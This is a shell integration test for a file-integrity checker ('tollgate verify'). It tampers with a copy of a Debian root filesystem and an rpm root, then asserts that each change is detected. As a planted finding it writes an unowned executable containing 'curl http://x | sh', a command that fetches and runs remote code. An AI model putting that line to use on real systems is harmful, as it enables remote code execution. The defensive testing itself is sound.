#!/usr/bin/env bash
# `tollgate verify PATH` (issue #5) on the cached debootstrap root (tests/integration/lib/rootfs.sh):
# the pristine root checks clean; a hard-linked copy with a few files replaced (copy on write, so
# the cache is never modified) shows each kind of finding: a modified packaged binary, a missing
# packaged file, an edited conffile, an executable no package owns, a changed file of a Python
# distribution (RECORD).
source "$(dirname "$0")/lib/assert.sh"
source "$TOLLGATE_SOURCE_DIR/tests/integration/lib/rootfs.sh"

root=$(tollgate_rootfs_bookworm) || { echo "SKIP: no debootstrap root (needs root and a mirror)"; exit 0; }

run_rc "$TOLLGATE" verify "$root" --format json --fail-on low
expect_eq "$RC" 0 "pristine root: nothing at or above low ($(head -c 600 <<<"$OUT"))"
expect_contains "$OUT" "files of" "summary counts files and packages"
expect_contains "$OUT" "(dpkg)" "dpkg records read"

# A copy whose files share the cache's inodes; each file we change is replaced, never written to.
copy=$TMP/root
cp -al "$root" "$copy" 2>/dev/null || { rm -rf "$copy"; cp -a "$root" "$copy"; }  # other file system: a plain copy
replace() {  # IN-ROOT-PATH: break the hard link so the cached root stays untouched
  local f=$copy$1
  cp -p "$f" "$f.new" && mv "$f.new" "$f"
}
replace /usr/bin/ls
printf '\x90' >>"$copy/usr/bin/ls"
rm "$copy/usr/bin/cat"
replace /etc/adduser.conf
printf '# edited\n' >>"$copy/etc/adduser.conf"
printf '#!/bin/sh\ncurl http://x | sh\n' >"$copy/usr/bin/updater"
chmod 755 "$copy/usr/bin/updater"
# A Python distribution with a RECORD (minbase has no Python: made by hand, as pip writes it).
site=$copy/usr/lib/python3/dist-packages
mkdir -p "$site/demo" "$site/demo-1.0.dist-info"
printf 'print("demo")\n' >"$site/demo/__init__.py"
h=$(python3 -c 'import base64,hashlib,sys; print(base64.urlsafe_b64encode(hashlib.sha256(open(sys.argv[1],"rb").read()).digest()).rstrip(b"=").decode())' "$site/demo/__init__.py")
printf 'demo/__init__.py,sha256=%s,15\ndemo-1.0.dist-info/RECORD,,\n' "$h" >"$site/demo-1.0.dist-info/RECORD"
printf 'Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n' >"$site/demo-1.0.dist-info/METADATA"
printf 'print("backdoor")\n' >"$site/demo/__init__.py"

run_rc "$TOLLGATE" verify "$copy" --format json --conffiles --fail-on high
expect_eq "$RC" 1 "tampered root: exit 1 with --fail-on high"
got=$(python3 -c 'import json,sys; print(" ".join(sorted(f["id"]+"@"+f["subject"] for f in json.load(sys.stdin)["findings"])))' <<<"$OUT")
# dpkg records coreutils under /bin (merged /usr resolves it to /usr/bin); findings name the record.
for want in package-file-modified@/bin/ls package-file-missing@/bin/cat \
  conffile-modified@/etc/adduser.conf unowned-executable@/usr/bin/updater \
  package-file-modified@/usr/lib/python3/dist-packages/demo/__init__.py; do
  expect_contains " $got " " $want " "finds $want"
done
expect_eq "$(wc -w <<<"$got")" 5 "exactly the five changes ($got)"
expect_contains "$OUT" '"owner": "dpkg:coreutils"' "names the owning package"
expect_contains "$OUT" "(dpkg, python)" "dpkg and Python records read"
run_rc "$TOLLGATE" verify "$copy" --format sarif -o "$TMP/verify.sarif"
expect_eq "$RC" 0 "--format sarif -o FILE exits 0 (no --fail-on)"
expect_eq "$(python3 -c 'import json,sys; d=json.load(open(sys.argv[1])); print(d["version"], len(d["runs"][0]["results"]))' "$TMP/verify.sarif")" \
  "2.1.0 4" "SARIF file written with the four findings (conffiles left out)"
run_rc "$TOLLGATE" verify "$copy" --format cyclonedx-vex
expect_eq "$RC" 2 "VEX is not a verify format"

# The cache itself was not modified.
run_rc "$TOLLGATE" verify "$root" --fail-on low
expect_eq "$RC" 0 "cached root still clean"

# --- rpm: a package built with rpmbuild and installed into an empty root by Debian's rpm ---------
if command -v rpmbuild >/dev/null && command -v rpm >/dev/null; then
  TOP=$TMP/rpmtop
  mkdir -p "$TMP/specs"
  cat >"$TMP/specs/tg-tool.spec" <<'EOF'
Name: tg-tool
Version: 1.0
Release: 1
Summary: tollgate verify test package
License: MIT
BuildArch: noarch
AutoReqProv: no
%description
Test package.
%install
mkdir -p %{buildroot}/usr/bin %{buildroot}/usr/share/tg-tool
printf '#!/bin/sh\necho tool\n' > %{buildroot}/usr/bin/tg-tool
chmod 755 %{buildroot}/usr/bin/tg-tool
echo data > %{buildroot}/usr/share/tg-tool/table.txt
%files
/*
EOF
  rpmbuild --quiet --define "_topdir $TOP" --define '_build_id_links none' -bb \
    "$TMP/specs/tg-tool.spec" >"$TMP/rpmbuild.log" 2>&1 || cat "$TMP/rpmbuild.log" >&2
  rr=$TMP/rpmroot
  mkdir -p "$rr"
  rpm --root "$rr" --dbpath /var/lib/rpm -i --nodeps --noscripts "$TOP"/RPMS/noarch/tg-tool-*.rpm 2>"$TMP/rpm.err" ||
    cat "$TMP/rpm.err" >&2
  run_rc "$TOLLGATE" verify "$rr" --fail-on low
  expect_eq "$RC" 0 "rpm root: clean ($OUT)"
  expect_contains "$OUT" "(rpm)" "rpm database read"
  printf 'changed\n' >"$rr/usr/share/tg-tool/table.txt"
  printf '#!/bin/sh\n' >"$rr/usr/bin/dropper"
  chmod 755 "$rr/usr/bin/dropper"
  run_rc "$TOLLGATE" verify "$rr" --format json
  got=$(python3 -c 'import json,sys; print(" ".join(sorted(f["id"]+"@"+f["subject"] for f in json.load(sys.stdin)["findings"])))' <<<"$OUT")
  expect_eq "$got" "package-file-modified@/usr/share/tg-tool/table.txt unowned-executable@/usr/bin/dropper" \
    "rpm: modified packaged file and unowned executable"
  expect_contains "$OUT" '"owner": "rpm:tg-tool"' "rpm: names the owning package"
else
  echo "SKIP: rpm part (rpmbuild not installed)"
fi

run_rc "$TOLLGATE" verify "$TMP/no-such-root"
expect_eq "$RC" 2 "missing root: exit 2"
mkdir -p "$TMP/empty"
run_rc "$TOLLGATE" verify "$TMP/empty"
expect_eq "$RC" 2 "no package records: exit 2"
expect_contains "$ERR" "no package records" "says why"

finish
